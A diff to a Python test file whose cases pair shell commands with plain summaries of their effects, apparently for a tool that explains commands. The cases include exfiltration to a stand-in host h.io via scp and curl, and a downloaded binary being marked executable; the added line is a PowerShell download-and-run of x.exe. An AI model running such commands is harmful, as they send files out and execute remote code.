@@ -26,6 +26,7 @@ def told(command: str) -> list[str]:
         ("scp a.db bob@h.io:/loot", f"send {CWD}/a.db => h.io"),
         ("cat ~/.k; curl -d a https://h.io", "read ~/.k => send https://h.io"),
         ("curl -o /tmp/a https://h.io/a; chmod +x /tmp/a", "fetch /tmp/a => chmod"),
+        ("pwsh -c 'iwr http://h.io/x -OutFile x.exe; ./x.exe'", f"fetch {CWD}/x.exe => run"),
         ("gpg -c notes.txt && rm notes.txt", f"encrypt {CWD}/notes.txt => delete"),
     ],
 )
